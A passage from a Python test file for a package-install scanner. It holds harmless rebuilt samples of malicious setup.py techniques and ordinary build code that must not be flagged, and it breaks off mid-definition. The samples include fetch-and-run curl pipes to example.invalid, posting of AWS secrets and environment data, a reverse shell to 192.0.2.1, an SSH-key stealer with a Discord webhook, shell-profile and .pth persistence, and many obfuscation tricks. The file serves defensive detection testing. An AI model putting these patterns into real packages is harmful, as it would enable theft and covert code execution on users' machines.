"""Install-time techniques of real malware, each rebuilt as a minimal harmless sample, and the
ordinary build code they must not be confused with.

Nothing here is real malware: payloads are `print`s or `echo`s, hosts are `example.invalid`,
blobs are encodings of harmless text. Each hostile setup.py first writes a canary (hostile.py):
no scan ever runs it.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from safepip.checks.hooks.rules import RULES
from safepip.checks.install_hooks import InstallHookCheck, scan_path
from safepip.findings import Finding, Severity
from tests.checks.hostile import beyond_canary, make_sdist, setup_py

_HARMLESS = base64.b64encode(b"print('hello')").decode()
_HARMLESS_COMMAND = base64.b64encode(b"echo hello").decode()
_RUN_DECODED = f"import os, base64\nos.system(base64.b64decode('{_HARMLESS_COMMAND}'))\n"


@dataclass(frozen=True)
class Technique:
    """One technique: a setup.py body (and other files of the sdist) and the least severity
    the scan must reach."""

    name: str
    body: str
    minimum: Severity = Severity.HIGH
    files: dict[str, str] = field(default_factory=dict)


TECHNIQUES = (
    Technique(
        "fernet-decrypt-exec",
        "from cryptography.fernet import Fernet\n"
        "exec(Fernet(b'a2V5').decrypt(b'gAAAAAB-not-a-token'))\n",
        Severity.CRITICAL,
    ),
    Technique(
        "cipher-decrypt-exec",
        "from Crypto.Cipher import AES\n"
        "code = AES.new(b'k' * 16, AES.MODE_ECB).decrypt(b'0' * 16)\nexec(code)\n",
        Severity.CRITICAL,
    ),
    Technique(
        "xor-loop-exec",
        "blob = b'\\x01\\x02\\x03'\nexec(bytes(b ^ 42 for b in blob))\n",
        Severity.CRITICAL,
    ),
    Technique(
        "decoder-helper-to-os-system",
        "import os, base64\n"
        "def d(s):\n    return base64.b64decode(s).decode()\n"
        f"os.system(d('{_HARMLESS_COMMAND}'))\n",
        Severity.CRITICAL,
    ),
    Technique(
        "chr-lambda-to-os-system",
        "import os\nf = lambda xs: ''.join(chr(x) for x in xs)\n"
        "os.system(f([101, 99, 104, 111]))\n",
        Severity.CRITICAL,
    ),
    Technique(
        "decoded-literal-written-then-started",
        "import base64, subprocess\n"
        f"open('t.pyw', 'wb').write(base64.b64decode('{_HARMLESS}'))\n"
        "subprocess.Popen('python t.pyw', shell=True)\n",
    ),
    Technique(
        "download-write-start-across-helpers",
        "import subprocess, tempfile\nfrom urllib.request import urlopen\n"
        "def fetch(url):\n    return urlopen(url).read()\n"
        "def drop(path):\n"
        "    with open(path, 'wb') as out:\n"
        "        out.write(fetch('https://example.invalid/a.bin'))\n"
        "    subprocess.Popen([path])\n"
        "drop(tempfile.gettempdir() + '/a.bin')\n",
    ),
    Technique(
        "host-identity-and-network-in-helpers",
        "import getpass, urllib.request\n"
        "def who():\n    return getpass.getuser()\n"
        "def ping(text):\n    urllib.request.urlopen('https://example.invalid/?q=' + text)\n"
        "name = who()\nping(name)\n",
    ),
    Technique(
        "dns-lookup-of-host-data",
        "import socket, getpass\n"
        "socket.gethostbyname(f'{getpass.getuser()}.example.invalid')\n",
        Severity.CRITICAL,
    ),
    Technique(
        "dns-lookup-of-computed-name",
        "import socket, sys\nlabel = sys.argv[0].encode().hex()\n"
        "socket.gethostbyname(label + '.example.invalid')\n",
    ),
    Technique(
        "command-assembled-in-f-string",
        "import os\nurl = 'https://example.invalid/i.sh'\ncmd = f'curl -s {url} | sh'\n"
        "os.system(cmd)\n",
        Severity.CRITICAL,
    ),
    Technique(
        "python-c-from-setup",
        "import subprocess, sys\n"
        "subprocess.run([sys.executable, '-c', 'import urllib.request as u; "
        "exec(u.urlopen(\"https://example.invalid\").read())'])\n",
        Severity.CRITICAL,
    ),
    Technique(
        "git-clone-second-stage",
        "import subprocess\n"
        "subprocess.call(['git', 'clone', 'https://example.invalid/stage2.git', '/tmp/s2'])\n",
    ),
    Technique(
        "payload-module-called-by-setup",
        "from helper import go\ngo()\n",
        Severity.CRITICAL,
        {"helper.py": "def go():\n" + "".join(f"    {ln}\n" for ln in _RUN_DECODED.splitlines())},
    ),
    Technique(
        "relative-import-in-own-package",
        "import demo\n",
        Severity.CRITICAL,
        {
            "demo/__init__.py": "from .core import VERSION\n",
            "demo/core.py": "VERSION = '1'\n" + _RUN_DECODED,
        },
    ),
    Technique(
        "sys-path-edit-then-import",
        "import sys, os\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'tools'))\n"
        "import buildhelp\n",
        Severity.CRITICAL,
        {"tools/buildhelp.py": f"import base64\nexec(base64.b64decode('{_HARMLESS}'))\n"},
    ),
    Technique(
        "python-m-own-module",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'demo.post'])\n",
        Severity.CRITICAL,
        {
            "demo/__init__.py": "",
            "demo/post.py": f"import base64\nexec(base64.b64decode('{_HARMLESS}'))\n",
        },
    ),
    Technique("startfile", "import os\nos.startfile('readme.txt')\n"),
    Technique(
        "script-host-launcher",
        "import subprocess\nsubprocess.Popen('start /b helper.vbs', shell=True)\n",
    ),
    Technique(
        "scheduled-task",
        "import subprocess\nsubprocess.call(['schtasks', '/create', '/tn', 'x', '/tr', 'y'])\n",
    ),
    Technique(
        "program-from-temp-folder",
        "import os, subprocess, tempfile\n"
        "exe = os.path.join(tempfile.gettempdir(), 'u.exe')\nsubprocess.Popen([exe])\n",
    ),
    Technique(
        "secret-env-variable-sent",
        "import os, requests\n"
        "requests.post('https://example.invalid', data=os.environ.get('AWS_SECRET_ACCESS_KEY'))\n",
        Severity.CRITICAL,
    ),
    Technique(
        "host-data-through-self-attribute",
        "import getpass, urllib.request\n"
        "class Beacon:\n"
        "    def __init__(self):\n        self.user = getpass.getuser()\n"
        "    def send(self):\n"
        "        urllib.request.urlopen('https://example.invalid/' + self.user)\n"
        "Beacon().send()\n",
        Severity.CRITICAL,
    ),
    Technique(
        "exec-of-literal-code-that-fetches-and-runs",
        "exec('import os\\nos.system(\"curl -s https://example.invalid/i | sh\")')\n",
        Severity.CRITICAL,
    ),
)

_WEBHOOK_URL = base64.b64encode(b"https://example.invalid/hook").decode()
MORE_TECHNIQUES = (
    Technique(
        "shell-profile-persistence",
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n"
        "    rc.write('echo hello\\n')\n",
    ),
    Technique(
        "startup-code-in-site-packages",
        "import os, site\npath = os.path.join(site.getsitepackages()[0], 'zz.pth')\n"
        "open(path, 'w').write('import sys')\n",
    ),
    Technique(
        "request-to-decoded-address",
        f"import base64, requests\nrequests.post(base64.b64decode('{_WEBHOOK_URL}'), data={{}})\n",
    ),
    Technique(
        "webhook-spelled-in-pieces",
        "import requests\nhost = 'transfer' + '.' + 'sh'\nrequests.get(f'https://{host}/x')\n",
    ),
    Technique(
        "file-contents-posted-by-own-helper",
        "import glob, json, urllib.request\n"
        "def post(body):\n"
        "    urllib.request.urlopen('https://example.invalid', json.dumps(body).encode())\n"
        "for name in glob.glob('/home/*/notes.txt'):\n"
        "    post({name: open(name).read()})\n",
    ),
    Technique(
        "command-output-sent",
        "import os, urllib.request\nseen = os.popen('env').read()\n"
        "urllib.request.urlopen('https://example.invalid', data=seen.encode())\n",
        Severity.CRITICAL,
    ),
    Technique(
        "star-imported-process-call",
        "from os import *\nimport base64\n"
        f"system(base64.b64decode('{_HARMLESS_COMMAND}'))\n",
        Severity.CRITICAL,
    ),
    Technique(
        "downloaded-script-run-by-python",
        "import subprocess, sys, requests\n"
        "reply = requests.get('https://example.invalid/u.py')\n"
        "with open('u.py', 'wb') as out:\n    out.write(reply.content)\n"
        "subprocess.check_call([sys.executable, 'u.py'])\n",
    ),
)

CAPABILITIES = (
    Technique("screen-capture", "from PIL import ImageGrab\nImageGrab.grab()\n", Severity.MEDIUM),
    Technique("clipboard", "import pyperclip\ntext = pyperclip.paste()\n", Severity.MEDIUM),
    Technique(
        "native-process-memory",
        "import ctypes\nk = ctypes.windll.kernel32\nk.VirtualAllocEx(0, 0, 1, 0, 0)\n",
        Severity.MEDIUM,
    ),
    Technique(
        "unreadable-runtime", "from pyarmor_runtime_000000 import __pyarmor__\n", Severity.MEDIUM
    ),
    Technique(
        "exec-through-builtins-namespace",
        "vars(__builtins__)['exec'](\"print('hello')\")\n",
        Severity.MEDIUM,
    ),
    Technique(
        "server-named-by-raw-address",
        "import urllib3\nreq = urllib3.Request('https://192.0.2.7/a.exe')\n",
        Severity.MEDIUM,
    ),
    Technique(
        "host-reconnaissance-command",
        "import os\nwho = os.popen('whoami').read()\n",
        Severity.MEDIUM,
    ),
    Technique(
        "program-started-silenced",
        "import os, subprocess\nhere = os.path.dirname(__file__)\n"
        "subprocess.Popen(os.path.join(here, 'helper'), stdin=subprocess.DEVNULL,\n"
        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
        Severity.MEDIUM,
    ),
    Technique(
        "powershell-started", "import os\nos.popen('powershell Get-Date')\n", Severity.MEDIUM
    ),
    Technique(
        "names-in-look-alike-letters",
        "\U0001d68e\U0001d6a1\U0001d68e\U0001d68c('print(1)')\n",
        Severity.MEDIUM,
    ),
    Technique(
        "code-pushed-off-screen",
        "x = 0" + " " * 200 + ";print('hello')\n",
        Severity.MEDIUM,
    ),
    Technique(
        "exec-of-escaped-literal",
        "eval('\\x31\\x2b\\x31\\x2b\\x31')\n",
        Severity.MEDIUM,
    ),
    Technique(
        "pyarmor-runtime-names",
        "def protected():\n    __pyarmor_enter__ = None\n",
        Severity.MEDIUM,
    ),
    Technique(
        "repetitive-base64-blob",
        f"BLOB = '{base64.b64encode(b'harmless text ' * 40).decode()}'\n",
        Severity.MEDIUM,
    ),
    Technique(
        "interpreter-command-line-given-to-a-wrapper",
        f"import base64, runner\nrunner.run(['python', '-c', base64.b64decode('{_HARMLESS}')])\n",
        Severity.CRITICAL,
    ),
    Technique(
        "local-module-shadows-setuptools",
        "",
        files={"setuptools.py": "def setup(**kwargs):\n    pass\n"},
    ),
    Technique(
        "exec-of-an-encoded-literal",
        f"exec('{base64.b64encode(b'print(1) # harmless ' * 20).decode()}')\n",
    ),
    Technique(
        "exec-of-a-data-file",
        "exec(open('assets/logo.dat').read())\n",
        Severity.MEDIUM,
        {"assets/logo.dat": "print('hello')\n"},
    ),
    Technique(
        "code-imported-from-an-archive",
        "import zipimport\nzipimport.zipimporter('assets/data.bin').load_module('x')\n",
        Severity.MEDIUM,
    ),
    Technique(
        "exec-of-unknown-transform", "from helpers import decode\nexec(decode('aGk='))\n",
        Severity.MEDIUM,
    ),
)

WINDOWS_AND_CLONES = (
    Technique(
        "gitpython-clone",
        "import git\ngit.Repo.clone_from('https://example.invalid/s.git', 'stage')\n",
    ),
    Technique(
        "windows-shell-through-com",
        "from win32com.client import Dispatch\nshell = Dispatch('WScript.Shell')\n",
    ),
    Technique("windows-program-by-name", "import os\nos.system('notepad.exe')\n"),
    Technique(
        "powershell-that-connects",
        "import os\nos.system('powershell -nop -c \"$c = New-Object Net.Sockets.TCPClient\"')\n",
    ),
    Technique(
        "xor-accumulated-then-compiled",
        "key = '1234'\nblob = 'abcd'\nout = ''\n"
        "for i in range(len(blob)):\n    out += chr(ord(blob[i]) ^ ord(key[i % 4]))\n"
        "eval(compile(out, '<s>', 'exec'))\n",
        Severity.CRITICAL,
    ),
    Technique(
        "pip-main-in-process", "import pip\npip.main(['install', 'demo-extra'])\n",
        Severity.MEDIUM,
    ),
)

LOOKUPS_AND_HANDOFFS = (
    Technique(
        "module-source-written-from-a-literal",
        "import sys\nSOURCE = ('import os, base64\\n'\n"
        f"    'os.system(base64.b64decode(\"{_HARMLESS_COMMAND}\"))\\n'\n"
        "    '# a bundled module, as bundlers write them\\n')\n"
        "with open('bundled_mod.py', 'w') as out:\n    out.write(SOURCE)\n"
        "sys.path.insert(0, '.')\nimport bundled_mod\n",
        Severity.CRITICAL,
    ),
    Technique(
        "process-passed-as-a-target",
        "import os, base64, multiprocessing\n"
        f"cmd = base64.b64decode('{_HARMLESS_COMMAND}')\n"
        "multiprocessing.Process(target=os.system, args=(cmd,)).start()\n",
        Severity.CRITICAL,
    ),
    Technique(
        "exec-registered-at-exit",
        "import atexit, base64\n"
        f"atexit.register(exec, base64.b64decode('{_HARMLESS}'))\n",
        Severity.CRITICAL,
    ),
    Technique(
        "module-from-sys-modules",
        "import sys, base64\nimport os\n"
        f"sys.modules['os'].system(base64.b64decode('{_HARMLESS_COMMAND}'))\n",
        Severity.CRITICAL,
    ),
    Technique(
        "alias-through-a-tuple",
        "import os, base64\nrun, n = os.system, 1\n"
        f"run(base64.b64decode('{_HARMLESS_COMMAND}'))\n",
        Severity.CRITICAL,
    ),
    Technique(
        "alias-through-a-default",
        "import os, base64\n"
        "def go(data, run=os.system):\n    run(base64.b64decode(data))\n"
        f"go('{_HARMLESS_COMMAND}')\n",
        Severity.CRITICAL,
    ),
    Technique(
        "attrgetter-lookup",
        "import os, operator, base64\n"
        f"operator.attrgetter('system')(os)(base64.b64decode('{_HARMLESS_COMMAND}'))\n",
        Severity.CRITICAL,
    ),
    Technique(
        "methodcaller-lookup",
        "import os, operator, base64\n"
        f"operator.methodcaller('system', base64.b64decode('{_HARMLESS_COMMAND}'))(os)\n",
        Severity.CRITICAL,
    ),
    Technique(
        "libc-system-through-ctypes",
        "import ctypes\nctypes.CDLL(None).system(b'curl -s https://example.invalid/i | sh')\n",
        Severity.CRITICAL,
    ),
    Technique(
        "pickle-of-embedded-data",
        "import pickle\nstate = pickle.loads(b'\\x80\\x04K\\x01.')\n",
        Severity.CRITICAL,
    ),
    Technique(
        "cmdclass-named-in-setup-cfg",
        "",
        Severity.CRITICAL,
        {
            "setup.cfg": "[metadata]\nname = demo\n[options]\ncmdclass =\n"
            "    install = demo_build.hooks.Install\n",
            "demo_build/__init__.py": "",
            "demo_build/hooks.py": "from setuptools.command.install import install\n"
            "class Install(install):\n    def run(self):\n"
            "        " + _RUN_DECODED.replace("\n", "\n        ").rstrip() + "\n",
        },
    ),
)

_TOUCH = "touch /tmp/demo-canary"
# Each hides a plain command (no decoding, no download): the hiding alone must block.
HIDDEN_REACH = (
    Technique(
        "process-function-from-a-dict-of-callables",
        f"import os\nACTIONS = {{'post': os.system}}\nACTIONS['post']({_TOUCH!r})\n",
    ),
    Technique(
        "process-function-bound-to-an-attrgetter",
        "import operator, subprocess\nrun = operator.attrgetter('call')(subprocess)\n"
        f"run({_TOUCH!r}, shell=True)\n",
    ),
    Technique(
        "process-function-from-a-star-import",
        f"from subprocess import *\ncheck_call({_TOUCH!r}, shell=True)\n",
    ),
    Technique(
        "process-function-in-a-static-class-attribute",
        "import os\nclass Runner:\n    go = staticmethod(os.system)\n"
        f"Runner.go({_TOUCH!r})\n",
    ),
    Technique(
        "process-function-given-to-a-thread",
        "import os, threading\n"
        f"threading.Thread(target=os.system, args=({_TOUCH!r},)).start()\n",
    ),
    Technique(
        "process-function-wrapped-in-partial",
        f"import os, functools\njob = functools.partial(os.system, {_TOUCH!r})\njob()\n",
    ),
    Technique(
        "process-function-as-a-sort-key",
        f"import os\nsorted([{_TOUCH!r}], key=os.system)\n",
    ),
    Technique(
        "process-function-from-sys-modules",
        f"import sys\nsys.modules['os'].__dict__['system']({_TOUCH!r})\n",
    ),
    Technique(
        "module-and-function-both-computed",
        f"getattr(__import__('o' + 's'), 'sys' + 'tem')({_TOUCH!r})\n",
    ),
    Technique(
        "pickle-shipped-as-a-file",
        "import pickle\nwith open('data/state.bin', 'rb') as f:\n    state = pickle.load(f)\n",
        files={"data/state.bin": bytes([128, 4, 75, 1, 46])},
    ),
    Technique(
        "process-left-to-run-at-exit-by-decorator",
        f"import atexit, os\n@atexit.register\ndef _later():\n    os.system({_TOUCH!r})\n",
    ),
    Technique(
        "process-left-to-run-at-exit-by-name",
        f"import atexit, subprocess\ndef _later():\n    subprocess.call({_TOUCH!r}, shell=True)\n"
        "atexit.register(_later)\n",
    ),
    Technique(
        "console-script-in-an-ini-string",
        "setup(name='demo', entry_points='[console_scripts]\\npip = demo.cli:main\\n')\n",
    ),
    Technique(
        "console-script-in-dict-call",
        "setup(name='demo', entry_points=dict(console_scripts=['python3 = demo.cli:main']))\n",
    ),
    Technique(
        "console-script-in-a-bound-list",
        "SCRIPTS = ['ls = demo.cli:main']\n"
        "setup(name='demo', entry_points={'console_scripts': SCRIPTS})\n",
    ),
    Technique(
        "shell-profile-through-pathlib",
        "from pathlib import Path\nrc = Path.home() / '.zshrc'\n"
        "with rc.open('a') as out:\n    out.write('echo hello\\n')\n",
    ),
    Technique(
        "pth-in-the-interpreter-purelib",
        "import sysconfig, os\n"
        "target = os.path.join(sysconfig.get_paths()['purelib'], 'demo-init.pth')\n"
        "open(target, 'w').write('import demo_boot\\n')\n",
    ),
    Technique(
        "shell-fed-its-commands-on-stdin",
        f"import subprocess\nsubprocess.run(['bash'], input={_TOUCH!r}.encode())\n",
    ),
    Technique(
        "shell-through-popen-communicate",
        "import subprocess\np = subprocess.Popen(['sh', '-s'], stdin=subprocess.PIPE)\n"
        f"p.communicate({_TOUCH!r}.encode())\n",
    ),
    Technique(
        "decoded-command-in-exec-argv",
        f"import os, base64\ncmd = base64.b64decode('{_HARMLESS_COMMAND}').decode()\n"
        "os.execvp('sh', ['sh', '-c', cmd])\n",
        Severity.CRITICAL,
    ),
    Technique(
        "recon-command-given-to-sh-c",
        "import subprocess\nsubprocess.run(['sh', '-c', 'whoami'])\n",
        Severity.MEDIUM,
    ),
    Technique(
        "pth-written-by-pathlib-into-site-packages",
        "import site\nfrom pathlib import Path\n"
        "Path(site.getsitepackages()[0], 'zz_demo.pth').write_text('import demo_boot\\n')\n",
    ),
)

_ECHO = "echo hello"
# A runner reached by a lookup whose name is folded from pieces, through a module's own
# namespace, or through a class-body or parameter-default alias (issue 14's red team). A name
# built at run time blocks whatever it runs (the harmless echo); the aliases are resolved so
# the ordinary rules judge what they run (the touch outside the tree).
LOOKUP_BY_NAME = (
    Technique(
        "exec-from-builtins-dict-by-folded-key",
        "import builtins\nbuiltins.__dict__['ev' + 'al']('print(1)')\n",
    ),
    Technique(
        "process-function-by-getattr-of-a-joined-name",
        "import subprocess\n"
        f"getattr(subprocess, ''.join(['ca', 'll']))({_ECHO!r}, shell=True)\n",
    ),
    Technique(
        "process-function-by-getattr-of-a-name-bound-to-built-text",
        f"import os\nwhich = 'po' + 'pen'\ngetattr(os, which)({_TOUCH!r})\n",
    ),
    Technique(
        "process-function-of-a-module-bound-to-a-built-import",
        f"import importlib\nmod = importlib.import_module('o' + 's')\nmod.popen({_ECHO!r})\n",
    ),
    Technique(
        "process-function-picked-from-a-list-written-in-place",
        f"import subprocess\n[print, subprocess.call][1]({_TOUCH!r}, shell=True)\n",
    ),
    Technique(
        "process-function-by-getattribute",
        f"import os\nobject.__getattribute__(os, 'popen')({_TOUCH!r})\n",
    ),
    Technique(
        "module-imported-by-a-reversed-name",
        f"import importlib\nimportlib.import_module('so'[::-1]).popen({_ECHO!r})\n",
    ),
    Technique(
        "process-function-from-vars-of-its-module",
        f"import subprocess\nvars(subprocess)['Popen']({_TOUCH!r}, shell=True)\n",
    ),
    Technique(
        "process-function-as-a-class-body-attribute",
        "import subprocess\nclass Steps:\n    sh = subprocess.call\n"
        f"Steps.sh({_TOUCH!r}, shell=True)\n",
    ),
    Technique(
        "process-function-as-a-parameter-default",
        "import os\ndef _step(line, do=os.popen):\n    do(line)\n"
        f"_step({_ECHO!r})\n",
    ),
    Technique(
        "process-started-by-distutils-spawn",
        f"from distutils.spawn import spawn as go\ngo({_TOUCH.split()!r})\n",
    ),
    Technique(
        "process-started-by-the-posix-module",
        f"import posix\nposix.system({_TOUCH!r})\n",
    ),
)

# Install-time code reached only through the build's own rules: each must be read (the
# decoded payload makes it critical) or, where it cannot be read, block on its own.
UNREAD_CODE = (
    Technique(
        "backend-path-is-the-project-folder",
        "",
        Severity.CRITICAL,
        {
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "localbackend"\n'
            'backend-path = ["."]\n',
            "localbackend.py": "from setuptools.build_meta import *\n" + _RUN_DECODED,
        },
    ),
    Technique(
        "folder-added-by-site-addsitedir",
        "import site\nsite.addsitedir('ext')\nimport gen\n",
        Severity.CRITICAL,
        {"ext/gen.py": _RUN_DECODED},
    ),
    Technique(
        "sourceless-bytecode-imported",
        "import helper\n",
        files={"helper.pyc": bytes(16)},  # never read: bytecode is judged unreadable
    ),
    Technique(
        "archive-put-on-the-import-path",
        "import sys\nsys.path.insert(0, 'vendor/lib.zip')\nimport vendlib\n",
        files={"vendor/lib.zip": bytes(22)},
    ),
    Technique(
        "build-machinery-shadowed-without-an-import",
        "",
        files={"distutils/__init__.py": "print('hello')\n"},
    ),
    Technique(
        "data-file-read-by-pathlib-run-as-code",
        "from pathlib import Path\nexec(Path('data', 'meta.json').read_text())\n",
        files={"data/meta.json": "print('hello')\n"},
    ),
    Technique(
        "archive-member-run-as-code",
        "import tarfile\nbundle = tarfile.open('assets/fixtures.tar')\n"
        "exec(bundle.extractfile('init.py').read())\n",
    ),
    Technique(
        "data-file-run-by-runpy",
        "import runpy\nrunpy.run_path('scripts/post_install.txt')\n",
        files={"scripts/post_install.txt": "print('hello')\n"},
    ),
    Technique(
        "standard-module-shadowed-without-an-import",
        "",
        Severity.CRITICAL,
        {"inspect.py": _RUN_DECODED},
    ),
)

ORDINARY = (
    Technique(
        "compiler-probe-in-temp-folder",
        "import os, subprocess, tempfile\n"
        "tmp = tempfile.mkdtemp()\nsrc = os.path.join(tmp, 'probe.c')\n"
        "with open(src, 'w') as out:\n    out.write('int main(void) { return 0; }')\n"
        "subprocess.check_call(['cc', src, '-o', os.path.join(tmp, 'probe')])\n",
    ),
    Technique(
        "readme-and-version-file",
        "import os\nhere = os.path.dirname(__file__)\n"
        "long_description = open(os.path.join(here, 'README.md')).read()\n"
        "about = {}\nexec(open(os.path.join(here, 'demo', '__about__.py')).read(), about)\n",
    ),
    Technique(
        "git-describe-and-pkg-config",
        "import subprocess\n"
        "version = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n"
        "flags = subprocess.check_output(['pkg-config', '--cflags', 'zlib']).split()\n",
    ),
    Technique(
        "cythonize-and-cython-module",
        "import subprocess, sys\nfrom Cython.Build import cythonize\n"
        "ext_modules = cythonize('demo/*.pyx')\n"
        "subprocess.check_call([sys.executable, '-m', 'cython', 'demo/fast.pyx'])\n",
    ),
    Technique(
        "configure-and-make-of-the-tree",
        "import os, subprocess\n"
        "subprocess.check_call(['sh', './configure', '--prefix=' + os.getcwd()])\n"
        "subprocess.check_call(['make', '-C', 'vendor'], env=dict(os.environ, CFLAGS='-O2'))\n",
    ),
    Technique(
        "numpy-style-build-tool-with-env",
        "import os, subprocess, sys\n"
        "cc = os.environ.get('CC', 'cc')\n"
        "subprocess.check_call([cc, '-shared', 'demo/x.c', '-o', 'build/x.so'])\n"
        "subprocess.check_call([sys.executable, 'tools/generate.py'])\n",
        files={"tools/generate.py": "open('demo/gen.py', 'w').write('X = 1')\n"},
    ),
    Technique(
        "own-module-imported-for-its-version",
        "from demo import __version__\nimport six\n",
        files={"demo.py": "__version__ = '1.0'\n", "six.py": "PY3 = True\n"},
    ),
    Technique(
        "msvc-tools-by-exe-name",
        "import subprocess\nsubprocess.check_call(['cl.exe', '/c', 'demo/x.c'])\n"
        "subprocess.check_output(['vswhere.exe', '-latest'])\n",
    ),
    Technique(
        "quiet-build-tool-probe",
        "import subprocess\n"
        "subprocess.call(['pkg-config', '--exists', 'zlib'], stdout=subprocess.DEVNULL,\n"
        "                stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)\n",
    ),
    Technique(
        "local-test-server-address",
        "TEST_URL = 'http://127.0.0.1:8080/'\nDOCS = 'https://docs.python.org/3/'\n",
    ),
    Technique(
        "windows-registry-read-for-compiler",
        "import winreg\n"
        "key = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SOFTWARE\\Microsoft\\VisualStudio')\n"
        "path = winreg.QueryValueEx(key, 'InstallDir')\n",
    ),
    Technique(
        "pth-file-built-into-the-tree",
        "with open('a1_demo.pth', 'w') as pth:\n    pth.write('import demo_start')\n",
    ),
    Technique(
        "version-from-git-in-a-request-free-build",
        "import subprocess\n"
        "sha = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode().strip()\n"
        "open('demo/_sha.py', 'w').write(f'SHA = {sha!r}')\n",
    ),
    Technique(
        "build-commands-handed-to-a-pool",
        "import subprocess\nfrom concurrent.futures import ThreadPoolExecutor\n"
        "jobs = [['cc', '-c', 'demo/a.c'], ['cc', '-c', 'demo/b.c']]\n"
        "with ThreadPoolExecutor() as pool:\n    list(pool.map(subprocess.check_call, jobs))\n",
    ),
    Technique(
        "build-tools-from-a-dict-by-platform",
        "import subprocess\nCOMPILE = {'cc': subprocess.check_call}\n"
        "COMPILE['cc'](['make', '-C', 'vendor'])\n",
    ),
    Technique(
        "ordinary-console-scripts-every-way",
        "setup(name='demo', entry_points='[console_scripts]\\ndemo-tool = demo.cli:main\\n')\n"
        "SCRIPTS = ['demo-admin = demo.admin:main']\n"
        "setup(name='demo', entry_points=dict(console_scripts=SCRIPTS))\n",
    ),
    Technique(
        "pth-and-config-written-into-the-tree-with-pathlib",
        "from pathlib import Path\nPath('build', 'demo.pth').write_text('demo')\n"
        "Path('demo', 'config.ini').write_text('[demo]')\n",
    ),
    Technique(
        "shell-scripts-of-the-tree-with-input",
        "import subprocess\nsubprocess.run(['bash', 'tools/build.sh'], input=b'y\\n')\n"
        "subprocess.run(['sh', '-c', 'make -j4'])\n"
        "import os\nos.execvp('make', ['make', 'all'])\n",
    ),
    Technique(
        "in-tree-backend-that-wraps-setuptools",
        "",
        files={
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\n'
            'backend-path = ["."]\n',
            "backend.py": "from setuptools.build_meta import *\n",
        },
    ),
    Technique(
        "bytecode-cache-next-to-its-source",
        "import sys\nsys.path.insert(0, 'src')\nimport helper\n",
        files={"src/helper.py": "X = 1\n", "src/__pycache__/helper.cpython-311.pyc": bytes(16)},
    ),
    Technique(
        "version-file-read-by-pathlib",
        "from pathlib import Path\nroot = Path(__file__).parent\n"
        "exec((root / 'src' / 'demo' / 'version.py').read_text(encoding='utf-8'))\n"
        "about = {}\nexec(root.joinpath('demo', '__about__.py').read_text(), {}, about)\n",
    ),
    Technique(
        "command-dispatch-by-name-and-json-data",
        "import json\nclass Build:\n    def run(self, kind):\n"
        "        getattr(self, 'build_' + kind)()\n"
        "    def build_docs(self):\n        pass\n"
        "with open('demo/data.json') as f:\n    data = json.load(f)\nBuild().run('docs')\n",
    ),
    Technique(
        "temporary-folder-removed-at-exit",
        "import atexit, shutil, tempfile\ntmp = tempfile.mkdtemp()\n"
        "atexit.register(shutil.rmtree, tmp)\n"
        "def clean():\n    shutil.rmtree('build', ignore_errors=True)\natexit.register(clean)\n",
    ),
    Technique(
        "package-helpers-not-called-on-import",
        "from demo import __version__\n",
        files={
            "demo/__init__.py": "import os, subprocess\n__version__ = '1.0'\n"
            "def show(path):\n    os.startfile(path)\n"
            "def fetch(url):\n    subprocess.call(['git', 'clone', url])\n",
        },
    ),
)


def _scan(technique: Technique, tmp_path: Path) -> list[Finding]:
    files = {"setup.py": setup_py(technique.body, tmp_path / "canary"), **technique.files}
    return beyond_canary(scan_path(make_sdist(tmp_path, "demo", "1.0", files)),
                         tmp_path / "canary")


@pytest.mark.parametrize(
    "technique",
    TECHNIQUES + MORE_TECHNIQUES + CAPABILITIES + WINDOWS_AND_CLONES + LOOKUPS_AND_HANDOFFS
    + HIDDEN_REACH + UNREAD_CODE + LOOKUP_BY_NAME,
    ids=lambda t: t.name,
)
def test_technique_is_blocked(technique: Technique, tmp_path: Path) -> None:
    findings = _scan(technique, tmp_path)
    worst = max((f.severity for f in findings), default=Severity.INFO)
    assert worst >= technique.minimum, findings
    assert not (tmp_path / "canary").exists()


@pytest.mark.parametrize("technique", ORDINARY, ids=lambda t: t.name)
def test_ordinary_build_code_is_not_flagged(technique: Technique, tmp_path: Path) -> None:
    findings = _scan(technique, tmp_path)
    assert all(f.severity < Severity.MEDIUM for f in findings), findings


def test_every_python_rule_names_what_the_prefilter_needs() -> None:
    from safepip.checks.hooks.prefilter import NEEDS

    for rule in RULES.values():
        if rule.python:
            assert rule.needs, f"{rule.id} has no prefilter needs"
        else:
            assert not rule.reaches_low_at_import_time()
        for alternative in rule.needs:
            assert alternative and alternative <= set(NEEDS), (rule.id, alternative)


IMPORT_TIME = (
    Technique(
        "reverse-shell-in-package-code",
        "",
        files={
            "demo/__init__.py": "import os, socket, subprocess\n"
            "def connect():\n    s = socket.socket()\n    s.connect(('192.0.2.1', 9))\n"
            "    os.dup2(s.fileno(), 0)\n    subprocess.call(['/bin/sh', '-i'])\n",
        },
    ),
    Technique(
        "stealer-in-package-code",
        "",
        files={
            "demo/__init__.py": "import os\n"
            "PLACES = [os.path.expanduser('~/.ssh/id_rsa')]\n"
            "HOOK = 'https://discord.com/api/webhooks/1/abc'\n",
        },
    ),
)
SSH_CLIENT_LIBRARY = Technique(
    "ssh-client-library",
    "",
    files={
        "demo/__init__.py": "import os, socket\n"
        "CONFIG = os.path.expanduser('~/.ssh/config')\n"
        "def connect(host):\n    return socket.create_connection((host, 22))\n",
    },
)


@pytest.mark.parametrize("technique", IMPORT_TIME, ids=lambda t: t.name)
def test_import_time_technique_is_blocked(technique: Technique, tmp_path: Path) -> None:
    findings = [f for f in _scan(technique, tmp_path) if f.message.endswith("(import time).")]
    assert max((f.severity for f in findings), default=Severity.INFO) >= Severity.HIGH, findings


def test_ssh_client_library_is_not_blocked(tmp_path: Path) -> None:
    findings = _scan(SSH_CLIENT_LIBRARY, tmp_path)
    assert all(f.severity < Severity.HIGH for f in findings), findings


_EVERY = (
